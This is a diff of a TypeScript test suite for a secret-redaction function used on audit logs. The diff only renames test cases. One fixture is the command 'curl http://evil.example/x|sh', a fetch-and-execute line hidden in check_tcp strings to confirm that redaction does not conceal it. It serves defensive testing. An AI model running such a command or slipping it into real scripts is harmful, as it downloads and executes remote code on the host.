@@ -49,7 +49,7 @@ const secretFields: readonly (readonly [where: string, body: Readonly<Record<str
   ['GET /vpns, password in a list', { params: [{ name: 'hq', password: canary }] }],
 ];
 
-it.each(secretFields)('a masked JSON body has no secret of %s', (_, body) => {
+it.each(secretFields)('a redacted JSON body contains no secret of %s', (_, body) => {
   const text = masked(body);
 
   expect(text).not.toContain(canary);
@@ -60,7 +60,7 @@ it.each([
   ...'Password NEWPASSWORD user-passwd passPhrase Api-Key ZAPI_KEY privateKey secret_key'.split(' '),
   'access key',
   ...'ssh_keys psk ipsec_psk Credentials access_token pin PIN-code Authorization'.split(' '),
-])('a masked JSON body has no value of the name %s, of any type and at any depth', (name) => {
+])('a redacted JSON body contains no value under the name %s, of any type and at any depth', (name) => {
   const text = masked([{ deep: [{ [name]: canary }, { [name]: [canary] }, { [name]: { inner: canary } }] }]);
 
   const shown = [canary.length, canary.length, `inner${canary}`.length].map((count) => ({
@@ -69,7 +69,7 @@ it.each([
   expect(text).toBe(JSON.stringify([{ deep: shown }]));
 });
 
-it('a masked JSON body keeps everything else unchanged', () => {
+it('a redacted JSON body keeps everything else unchanged', () => {
   const body = {
     keepalive: '60',
     key_size: 2048,
@@ -92,7 +92,7 @@ it('a masked JSON body keeps everything else unchanged', () => {
   expect(maskBody(Buffer.from(JSON.stringify(body)), 'application/json')).toEqual(body);
 });
 
-it('a masked JSON body masks the rest of a header line, the value of an option and a key in PEM, and says how long they are', () => {
+it('redaction hides the rest of a header line, an option value and a PEM key, and states their length', () => {
   const body = {
     header: 'Authorization: Basic YTpi\nX-Site: a',
     command: 'check_web --password="a b" -H HOST --user ann -p 3306 -C PORT',
@@ -106,19 +106,19 @@ it('a masked JSON body masks the rest of a header line, the value of an option a
   });
 });
 
-it('a masked JSON body keeps a field with the name __proto__', () => {
+it('a redacted JSON body keeps a field named __proto__', () => {
   const text = JSON.stringify(maskValue(JSON.parse(`{"__proto__":{"password":"${canary}","a":1}}`)));
 
   expect(text).toBe('{"__proto__":{"password":"[redacted 11 characters]","a":1}}');
 });
 
-it('a masked JSON body masks extremely deep nesting without failing', () => {
+it('redaction handles extremely deep nesting without failing', () => {
   const text = `${'['.repeat(20_000)}"${canary}"${']'.repeat(20_000)}`;
 
   expect(JSON.stringify(maskBody(Buffer.from(text), 'application/json'))).not.toContain(canary);
 });
 
-it('a masked JSON body never shows a value of a secret name, in any context', () => {
+it('a redacted JSON body never shows the value of a secret name, in any context', () => {
   const name = fc.constantFrom('password', 'vpnpass', 'api_key', 'community', 'token', 'bind_password');
   const tree = fc.letrec<{ node: unknown }>((tie) => ({
     node: fc.oneof(
@@ -133,7 +133,7 @@ it('a masked JSON body never shows a value of a secret name, in any context', ()
   fc.assert(fc.property(tree, (body) => !masked(body).includes(canary)));
 });
 
-it('a masked JSON body of hostile texts and structures takes little time', () => {
+it('redaction of hostile texts and structures takes little time', () => {
   const texts = ['a', '://', 'key', 'key:', 'key="', '- ', '-p "', ' ', 'a    ', '-a        '];
   const hostile = [
     ...texts.map((part) => JSON.stringify({ command: part.repeat(262_144 / part.length) })),
@@ -150,7 +150,7 @@ it('a masked JSON body of hostile texts and structures takes little time', () =>
   expect(process.threadCpuUsage(before).user).toBeLessThan(5_000_000);
 });
 
-describe('a text that looks like a secret in order to hide a command', () => {
+describe('a command disguised as a secret', () => {
   const evil = 'curl http://evil.example/x|sh';
 
   it.each([
@@ -166,7 +166,7 @@ describe('a text that looks like a secret in order to hide a command', () => {
     `check_tcp -a 'x; ${evil}`,
     `check_tcp secret: "x" | ${evil}`,
     `check_tcp cookie: \`${evil}\``,
-  ])('shows the command: %j', (command) => {
+  ])('is shown in %j', (command) => {
     const shown = (maskValue({ command }) as { command: string }).command;
 
     expect(shown).toContain('http://evil.example/x');
@@ -174,26 +174,26 @@ describe('a text that looks like a secret in order to hide a command', () => {
   });
 });
 
-it('a masked value is masked a second time as it is', () => {
+it('a redacted value stays the same when it is redacted again', () => {
   for (const [, body] of secretFields) {
     const once = maskValue(body);
     expect(maskValue(once)).toEqual(once);
   }
 });
 
-it.each(secretFields.slice(0, -6))('the fields are known of which something is masked: %s', (_, body) => {
+it.each(secretFields.slice(0, -6))('the list of secret fields contains %s', (_, body) => {
   expect(maskedFields(body)).not.toEqual([]);
 });
 
-it('nothing is masked in ordinary fields', () => {
+it('ordinary fields are not redacted', () => {
   expect(maskedFields({ action: 'stop', list: [{ ip: '192.0.2.1' }], password: '', community: null })).toEqual([]);
 });
 
-describe('a long JSON body', () => {
+describe('a long JSON body in the audit', () => {
   const shown = (text: string): unknown => maskBody(Buffer.from(text), 'application/json');
   const digest = (text: string): string => createHash('sha256').update(text).digest('hex');
 
-  it('shows its content despite many blanks', () => {
+  it('shows its content despite much whitespace', () => {
     expect(shown(`{"action":"down"${' '.repeat(66_000)}}`)).toEqual({ action: 'down' });
   });
 
@@ -212,11 +212,11 @@ describe('a long JSON body', () => {
     ['a long word', { x: 'y'.repeat(17_000) }, '{"x":"'],
     ['a word with a quotation mark', { x: `a"${'y'.repeat(17_000)}` }, '{"x":"'],
     ['one of many words', Array.from({ length: 2_000 }, () => 'z'.repeat(2_500)), `["${'z'.repeat(2_500)}","`],
-  ])('shows no part of a cut word, because it may be half a key: %s', (_, body, beginning) => {
+  ])('shows no part of a truncated word, because it may be half a key: %s', (_, body, beginning) => {
     expect(shown(JSON.stringify(body))).toMatchObject({ beginning });
   });
 
-  it('masks before it cuts', () => {
+  it('is redacted before it is truncated', () => {
     const content = `password = ${canary} ${pem} `.repeat(1_000);
     const header = `X-Site: a\nAuthorization: Basic ${canary} `.repeat(1_000);
 
@@ -254,7 +254,7 @@ it.each([
   ['a backup', canary, 'application/gzip'],
   ['JSON that is none', `{"password":"${canary}"`, 'application/json'],
   ['nothing', '', 'application/json'],
-])('any other body is recorded as its size and digest: %s', (_, text, contentType) => {
+])('a body that is not JSON is recorded as its size and digest: %s', (_, text, contentType) => {
   const body = Buffer.from(text);
 
   const result = maskBody(body, contentType);
@@ -266,7 +266,7 @@ describe('a text written by a person', () => {
   it.each([
     ...'pw PW db_pw db-pw2 pwd passwd password pass auth basic-auth oauth secret'.split(' '),
     ...'client_secret apikey api-key key token access_token creds bearer psk'.split(' '),
-  ])('has nothing after %s= or %s:', (name) => {
+  ])('loses the value after %s, with an equals sign and with a colon', (name) => {
     const texts = [
       `${name}=${canary}`,
       `ticket 7, ${name}='${canary} x' done`,
